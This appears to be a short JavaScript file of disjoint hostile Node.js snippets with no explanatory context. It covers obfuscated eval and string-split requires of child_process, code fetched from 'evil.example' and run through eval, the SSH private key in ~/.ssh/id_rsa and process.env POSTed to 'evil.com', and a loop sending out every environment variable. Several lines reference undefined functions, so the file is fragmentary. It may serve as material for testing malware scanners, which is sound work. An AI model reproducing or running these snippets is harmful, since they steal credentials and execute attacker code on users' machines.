const {exec: run} = require('child_' + 'process');
run('ls ' + x);
globalThis['ev' + 'al'](atob('Y29uc29sZS5sb2coMSk='));
JSON.stringify(process['env']);
fetch('http://x.y/z').then(r => r.text()).then(eval);
const https = require("node:https");
let body = '';
https.get('https://evil.example/p', res => { res.on('data', d => body += d); res.on('end', () => { eval(body); new Function('require', body)(require) }) });
var s = ''; var k = [104^7,105^7]; for (var i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 7);
eval(s);
[].constructor.constructor('return process')();
const p = require('path').join(require('os').homedir(), '.ss' + 'h', 'id_rsa');
const key = require('fs').readFileSync(p, 'utf8');
const req = https.request({hostname: 'evil.com', method: 'POST', path: '/x'}); req.write(key); req.end(JSON.stringify(process.env));
const data = Buffer.from('68656c6c6f', 'hex').toString();
function dec(s) { return Buffer.from(s, 'base64').toString('utf8').split('').reverse().join(''); }
go(dec('b2xsZWg='));
(0, eval)(dec('b2xsZWgob2xsZWg='));
import fs from 'fs'; fs.writeFileSync('/tmp/a', 1);
Reflect.apply(eval, null, [body]);
for (const q in process.env) { post(process.env[q]); }
